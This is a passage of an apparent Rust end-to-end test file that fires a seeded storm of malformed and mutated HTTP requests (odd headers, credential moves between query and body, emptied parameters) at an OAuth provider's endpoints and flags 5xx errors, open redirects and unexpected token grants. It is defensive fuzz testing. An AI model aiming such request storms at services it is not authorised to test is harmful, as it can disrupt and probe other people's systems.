                ("transfer-encoding-x", "chunked"),
                ("range", "bytes=0-1,2-3,4-5"),
                ("if-none-match", "*"),
            ];
            for _ in 0..r.range(1, 4) {
                let (n, v) = *r.pick(headers);
                a.header(n, v);
            }
        }
        Mutation::QueryOnPost => {
            if !a.in_query && !a.params.is_empty() {
                let q: Vec<String> = a
                    .params
                    .iter()
                    .filter(|(k, _)| k != b"client_id" && k != b"client_secret")
                    .map(|(k, v)| format!("{}={}", encode(k), encode(v)))
                    .collect();
                a.extra_query = Some(q.join("&"));
            } else {
                a.in_query = false;
                a.method = "POST".into();
                a.content_type = Some(b"application/x-www-form-urlencoded".to_vec());
            }
        }
        Mutation::Empty => {
            a.params.clear();
            a.raw_tail.clear();
            if r.chance(50) {
                a.content_type = None;
            }
        }
    }
}

fn generate(seed: u64, index: usize, real_tx: Option<&'static str>) -> Attack {
    let mut r = Rng::new(seed ^ (index as u64).wrapping_mul(0xA24B_AED4_963E_E407));
    r.1 = real_tx;
    let target = *r.pick(TARGETS);
    let mut a = base_attack(&mut r, index, target);
    let n = if r.chance(10) { 0 } else { r.range(1, 3) };
    for _ in 0..n {
        let m = *r.pick(MUTATIONS);
        a.mutations.push(m);
        mutate(&mut a, m, &mut r);
    }
    a
}

// ---------------------------------------------------------------------------------------------
// The storm
// ---------------------------------------------------------------------------------------------

fn env_number<T: std::str::FromStr>(name: &str, default: T) -> T {
    match std::env::var(name) {
        Ok(v) if !v.trim().is_empty() => {
            let v = v.trim();
            let parsed = if let Some(hex) = v.strip_prefix("0x") {
                u64::from_str_radix(hex, 16).ok().and_then(|n| n.to_string().parse().ok())
            } else {
                v.parse().ok()
            };
            parsed.unwrap_or_else(|| panic!("{name}={v} is not a number"))
        }
        _ => default,
    }
}

/// What the storm saw.
#[derive(Default)]
struct Tally {
    sent: usize,
    by_status: BTreeMap<u16, usize>,
    by_target: BTreeMap<String, usize>,
    by_mutation: BTreeMap<String, usize>,
    transport_errors_oversized: usize,
    offenders: Vec<(usize, String)>,
}

/// Checks one outcome; returns why it is an offender, if it is.
fn judge(
    attack: &Attack,
    built: &Built,
    outcome: &Result<(u16, reqwest::header::HeaderMap, String), String>,
) -> Option<String> {
    let (status, headers, body) = match outcome {
        Ok(o) => o,
        Err(e) if built.oversized => {
            let _ = e;
            return None;
        }
        Err(e) => return Some(format!("no response: {e}")),
    };
    let status = *status;
    let header = |n: &str| headers.get(n).map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned());
    let snippet: String = body.chars().take(300).collect();
    if status == 501 && !STANDARD_METHODS.contains(&attack.method.as_str()) {
        // RFC 9110 §9.1: an unrecognised method gets 501 - from the runtime's HTTP server
        // (workerd), before the worker sees the request.
        return None;
    }
    if status >= 500 && !(status == 503 && header("retry-after").is_some()) {
        return Some(format!("status {status} (5xx; a 503 needs Retry-After): {snippet}"));
    }
    if let Some(location) = header("location") {
        let base = Url::parse(&built.url).unwrap_or_else(|_| Url::parse(&env().issuer).unwrap());
        let registered = registered_redirect();
        match base.join(&location) {
            Ok(to) => {
                let same = (to.scheme(), to.host_str(), to.port_or_known_default(), to.path())
                    == (
                        registered.scheme(),
                        registered.host_str(),
                        registered.port_or_known_default(),
                        registered.path(),
                    )
                    && to.username().is_empty()
                    && to.password().is_none()
                    && to.fragment().is_none();
                if !same {
                    return Some(format!("{status} redirects to an unregistered location (open redirect): {location}"));
                }
                if to.query_pairs().any(|(k, _)| k == "code") {
                    return Some(format!("{status} redirects with a code: {location}"));
                }
            }
            Err(e) => return Some(format!("{status} with an unparseable Location ({e}): {location:?}")),
        }
    }
    if status == 200
        && matches!(attack.target, Target::Token | Target::UserinfoGet | Target::UserinfoPost)
        && attack.method != "OPTIONS"
        && attack.method != "HEAD"
    {
        return Some(format!(
            "200 from {} in the storm (nothing here is a valid grant or token): {snippet}",
            attack.target.path()
        ));
    }
    None
}

fn send(client: &Client, built: &Built) -> Result<(u16, reqwest::header::HeaderMap, String), String> {
    let mut req = client.request(built.method.clone(), &built.url);
    for (n, v) in &built.headers {
        req = req.header(n.clone(), v.clone());
    }
    if let Some(b) = &built.body {
        req = req.body(b.clone());
    }
    let resp = req.send().map_err(|e| error_chain(&e))?;
    let status = resp.status().as_u16();
    let headers = resp.headers().clone();
    let bytes = resp.bytes().map_err(|e| format!("reading the body: {}", error_chain(&e)))?;
    Ok((status, headers, String::from_utf8_lossy(&bytes).into_owned()))
}

#[test]
fn hostile_storm_then_normal_flows() {
    let total: usize = env_number("E2E_HOSTILE_REQUESTS", DEFAULT_REQUESTS);
    let seed: u64 = env_number("E2E_HOSTILE_SEED", DEFAULT_SEED);
    let threads: usize = env_number("E2E_HOSTILE_THREADS", DEFAULT_THREADS).max(1);
    let budget = Duration::from_secs(env_number("E2E_HOSTILE_SECONDS", DEFAULT_SECONDS));
    assert!(total > 0, "E2E_HOSTILE_REQUESTS must be positive");

    // A real login page state to tamper with. Its cookie is never sent by the storm, so even
    // the intact value cannot reach a password check.
    let real = Browser::new().open_login(&AuthzRequest::new(Kind::Basic).url());
    REAL_TX.set(real).expect("REAL_TX is set once");

    let next = Arc::new(AtomicUsize::new(0));
    let tally = Arc::new(Mutex::new(Tally::default()));
    let start = Instant::now();
    let workers: Vec<_> = (0..threads)
        .map(|_| {
            let next = next.clone();
            let tally = tally.clone();
            std::thread::spawn(move || {
                let client = Client::builder()
                    .redirect(reqwest::redirect::Policy::none())
                    .timeout(Duration::from_secs(30))
                    .build()
                    .expect("building the HTTP client");
                loop {
                    if start.elapsed() > budget {
                        break;
                    }
                    let index = next.fetch_add(1, Ordering::SeqCst);
                    if index >= total {
                        break;
                    }
                    let attack = generate(seed, index, REAL_TX.get().map(String::as_str));
                    let built = attack.build();
                    let outcome = send(&client, &built);
                    let verdict = judge(&attack, &built, &outcome);
                    let mut t = tally.lock().unwrap();
                    t.sent += 1;
                    match &outcome {
                        Ok((s, _, _)) => *t.by_status.entry(*s).or_default() += 1,
                        Err(_) if built.oversized => t.transport_errors_oversized += 1,
                        Err(_) => {}
                    }
                    *t.by_target.entry(format!("{:?}", attack.target)).or_default() += 1;
                    for m in &attack.mutations {
                        *t.by_mutation.entry(format!("{m:?}")).or_default() += 1;
                    }
                    if let Some(why) = verdict {
                        t.offenders.push((index, format!("{}\n    -> {why}", attack.describe(&built))));
                    }
                }
            })
        })
        .collect();
    for w in workers {
        w.join().expect("a storm thread panicked");
    }
    let elapsed = start.elapsed();
    let mut t = Arc::try_unwrap(tally).ok().expect("all threads joined").into_inner().unwrap();
    t.offenders.sort_by_key(|(i, _)| *i);
    eprintln!(
        "hostile storm: {} of {total} requests in {:.1} s (seed {seed:#x}, {threads} threads)\n  statuses: {:?}\n  targets: {:?}\n  mutations: {:?}\n  transport errors on oversized requests: {}",
        t.sent,
        elapsed.as_secs_f64(),
        t.by_status,
        t.by_target,
        t.by_mutation,
        t.transport_errors_oversized
    );

    if !t.offenders.is_empty() {
        let shown: Vec<&str> = t.offenders.iter().take(20).map(|(_, s)| s.as_str()).collect();
        panic!(
            "{} of {} hostile requests got a forbidden answer (seed {seed:#x}; first 20):\n\n{}",
            t.offenders.len(),
            t.sent,
            shown.join("\n\n")
        );
    }

    // Not vacuous: the storm really ran, hit every endpoint, and was mostly refused.
    if t.sent < total {
        eprintln!("hostile storm: the time budget of {} s ran out after {} requests", budget.as_secs(), t.sent);
    }
    assert!(
        t.sent >= total.min(300),
        "only {} hostile requests were sent within {} s (E2E_HOSTILE_SECONDS)",
        t.sent,
        budget.as_secs()
    );
    if t.sent >= 500 {
        for target in TARGETS {
            assert!(t.by_target.contains_key(&format!("{target:?}")), "no request went to {target:?}");
        }
        for m in MUTATIONS {
            assert!(t.by_mutation.contains_key(&format!("{m:?}")), "mutation {m:?} was never applied");
        }
    }
    let answered: usize = t.by_status.values().sum();
    let refused: usize = t.by_status.iter().filter(|(s, _)| (400..500).contains(*s)).map(|(_, n)| n).sum();
    assert!(answered * 2 >= t.sent, "fewer than half of the hostile requests were answered: {:?}", t.by_status);
    assert!(refused * 2 >= answered, "most hostile requests should be refused with a 4xx: {:?}", t.by_status);

    // The provider still works, for a confidential and for the public client.
    complete_flow(Kind::Basic, true);
    complete_flow(Kind::Public, true);
}

const TEST_TX: &str = "eyJjbGllbnRfaWQiOiJ4In0.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";

#[test]
fn the_generator_is_deterministic_and_well_formed() {
    // Cheap and offline (apart from reading E2E_ISSUER): the same (seed, index) gives the same
    // request, and every request of the default storm can be built.
    for index in 0..DEFAULT_REQUESTS {
        let a = generate(DEFAULT_SEED, index, Some(TEST_TX));
        let b = generate(DEFAULT_SEED, index, Some(TEST_TX));
        let (x, y) = (a.build(), b.build());
        assert_eq!((x.method.as_str(), &x.url, &x.body), (y.method.as_str(), &y.url, &y.body), "request #{index}");
        assert_eq!(x.headers, y.headers, "request #{index}");
    }
    let distinct: std::collections::HashSet<(String, Option<Vec<u8>>)> = (0..200)
        .map(|i| {
            let b = generate(DEFAULT_SEED, i, None).build();
            (b.url, b.body)
        })
        .collect();
    assert!(distinct.len() > 150, "the generator repeats itself: {} distinct requests of 200", distinct.len());
}
